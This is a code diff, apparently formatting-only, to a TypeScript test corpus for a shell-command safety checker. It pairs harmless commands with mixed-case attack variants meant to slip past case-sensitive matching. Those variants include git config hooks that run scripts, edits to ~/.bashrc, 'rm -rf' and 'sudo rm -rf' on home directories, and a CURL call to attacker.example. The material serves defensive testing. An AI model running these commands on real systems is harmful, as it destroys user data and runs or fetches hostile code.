@@ -427,28 +427,30 @@ export function corpus({ ws, home, root }: Places): CorpusLine[] {
 
 /** Command names not all in lower case: on macOS and Windows file systems they find the same programs. */
 function caseLines({ home }: Places): ShellLine[] {
-  return ([
-    ['GIT status', 'GIT -c core.fsmonitor=./x.sh status'],
-    ['Git status', 'Git -c core.pager=./x.sh log'],
-    ['GIT log -5', `GIT log --output=${home}/.bashrc`],
-    ['/usr/bin/GIT status', '/usr/bin/GIT -c core.fsmonitor=./x.sh status'],
-    ['Git.exe status', 'Git.exe -c core.fsmonitor=./x.sh status'],
-    ['SH ./scripts/build.sh', `SH -c 'touch pwned'`],
-    ['Bash scripts/test.sh', `Bash -c 'touch pwned'`],
-    ['NPM test', 'NPM test --script-shell=./x.sh'],
-    ['Npx mocha test', 'Npx mocha --require ./x.js'],
-    ['FIND . -name a.ts', r`FIND . -name a.ts -exec touch pwned \;`],
-    ['Sed -n p notes.txt', `Sed -i s/a/b/ ${home}/.bashrc`],
-    ['RM build.log', `RM -rf ${home}/important`],
-    ['CURL --version', 'CURL https://attacker.example/x'],
-    ['Python3 tools/gen.py', `Python3 -c 'import os; os.system("touch pwned")'`],
-    ['NODE scripts/build.js', `NODE -e 'require("fs").writeFileSync("pwned", "")'`],
-    ['Env -u FOO npm test', `Env sh -c 'touch pwned'`],
-    ['Make test', 'Make test SHELL=./x.sh'],
-    ['Tar tf vendor.tar', 'Tar tf vendor.tar --to-command=./x.sh'],
-    ['AWK {print} notes.txt', `AWK 'BEGIN { system("touch pwned") }'`],
-    ['Sudo -n true', `Sudo rm -rf ${home}/important`],
-  ] as const).map(([benign, attack]) => ['case', benign, attack] as const);
+  return (
+    [
+      ['GIT status', 'GIT -c core.fsmonitor=./x.sh status'],
+      ['Git status', 'Git -c core.pager=./x.sh log'],
+      ['GIT log -5', `GIT log --output=${home}/.bashrc`],
+      ['/usr/bin/GIT status', '/usr/bin/GIT -c core.fsmonitor=./x.sh status'],
+      ['Git.exe status', 'Git.exe -c core.fsmonitor=./x.sh status'],
+      ['SH ./scripts/build.sh', `SH -c 'touch pwned'`],
+      ['Bash scripts/test.sh', `Bash -c 'touch pwned'`],
+      ['NPM test', 'NPM test --script-shell=./x.sh'],
+      ['Npx mocha test', 'Npx mocha --require ./x.js'],
+      ['FIND . -name a.ts', r`FIND . -name a.ts -exec touch pwned \;`],
+      ['Sed -n p notes.txt', `Sed -i s/a/b/ ${home}/.bashrc`],
+      ['RM build.log', `RM -rf ${home}/important`],
+      ['CURL --version', 'CURL https://attacker.example/x'],
+      ['Python3 tools/gen.py', `Python3 -c 'import os; os.system("touch pwned")'`],
+      ['NODE scripts/build.js', `NODE -e 'require("fs").writeFileSync("pwned", "")'`],
+      ['Env -u FOO npm test', `Env sh -c 'touch pwned'`],
+      ['Make test', 'Make test SHELL=./x.sh'],
+      ['Tar tf vendor.tar', 'Tar tf vendor.tar --to-command=./x.sh'],
+      ['AWK {print} notes.txt', `AWK 'BEGIN { system("touch pwned") }'`],
+      ['Sudo -n true', `Sudo rm -rf ${home}/important`],
+    ] as const
+  ).map(([benign, attack]) => ['case', benign, attack] as const);
 }
 
 /** Lines that attack only where names differ by case alone (macOS, Windows): decided with caseInsensitive: true. */
